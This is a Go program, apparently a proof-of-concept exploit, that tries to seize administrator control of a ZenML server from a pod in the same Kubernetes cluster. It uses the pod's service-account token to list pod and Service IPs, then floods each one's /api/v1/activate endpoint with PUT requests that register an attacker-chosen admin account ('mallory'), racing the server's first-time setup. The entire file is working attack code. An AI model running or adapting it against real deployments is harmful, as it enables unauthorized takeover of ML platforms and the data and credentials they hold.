// Command attack tries to become the admin of a ZenML server from a pod of its
// cluster. It finds the addresses of the server's pods and Service with the
// Kubernetes API, and requests the activation from each without a pause.
package main

import (
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

const (
	account = "/var/run/secrets/kubernetes.io/serviceaccount/"
	body    = `{"admin_username":"mallory","admin_password":"Mallory-1!","server_name":"claimed"}`
)

// target is an object with the addresses of a pod or a Service.
type target struct {
	Spec   struct{ ClusterIP string }
	Status struct{ PodIP string }
}

var (
	attempts, answered atomic.Int64
	attacked           sync.Map
	attacker           = &http.Client{Timeout: 3 * time.Second}
)

func main() {
	namespace := os.Args[1]
	api, token := apiClient()
	go report()
	for {
		for kind, port := range map[string]string{"pods": "8080", "services": "80"} {
			for _, address := range addresses(api, token, namespace, kind) {
				if _, known := attacked.LoadOrStore(address, true); !known {
					fmt.Println("ATTACKING", kind, address)
					go attack(kind, "http://"+net.JoinHostPort(address, port)+"/api/v1/activate")
				}
			}
		}
		time.Sleep(20 * time.Millisecond)
	}
}

func apiClient() (*http.Client, string) {
	token, err := os.ReadFile(account + "token")
	if err != nil {
		panic(err)
	}
	ca, err := os.ReadFile(account + "ca.crt")
	if err != nil {
		panic(err)
	}
	roots := x509.NewCertPool()
	roots.AppendCertsFromPEM(ca)
	return &http.Client{Timeout: 5 * time.Second, Transport: &http.Transport{
		TLSClientConfig: &tls.Config{RootCAs: roots, MinVersion: tls.VersionTLS12},
	}}, string(token)
}

// addresses lists the IP addresses of the pods or Services of the namespace.
func addresses(api *http.Client, token, namespace, kind string) []string {
	host := net.JoinHostPort(os.Getenv("KUBERNETES_SERVICE_HOST"), os.Getenv("KUBERNETES_SERVICE_PORT"))
	request, err := http.NewRequest(http.MethodGet, "https://"+host+"/api/v1/namespaces/"+namespace+"/"+kind, nil)
	if err != nil {
		panic(err)
	}
	request.Header.Set("Authorization", "Bearer "+token)
	response, err := api.Do(request)
	if err != nil {
		return nil
	}
	defer response.Body.Close()
	var list struct{ Items []target }
	if json.NewDecoder(response.Body).Decode(&list) != nil {
		return nil
	}
	var found []string
	for _, item := range list.Items {
		if address := item.Spec.ClusterIP + item.Status.PodIP; address != "" && address != "None" {
			found = append(found, address)
		}
	}
	return found
}

// attack requests the activation again and again.
func attack(kind, url string) {
	for {
		attempts.Add(1)
		if claim(kind, url) {
			return
		}
		time.Sleep(time.Millisecond)
	}
}

// claim reports whether the server was claimed.
func claim(kind, url string) bool {
	request, err := http.NewRequest(http.MethodPut, url, strings.NewReader(body))
	if err != nil {
		panic(err)
	}
	request.Header.Set("Content-Type", "application/json")
	response, err := attacker.Do(request)
	if err != nil {
		return false
	}
	defer response.Body.Close()
	_, _ = io.Copy(io.Discard, response.Body)
	answered.Add(1)
	if response.StatusCode == http.StatusOK {
		fmt.Println("CLAIMED through", kind, url)
		return true
	}
	return false
}

func report() {
	for range time.Tick(500 * time.Millisecond) {
		fmt.Println("ATTEMPTS", attempts.Load(), "ANSWERED", answered.Load())
	}
}
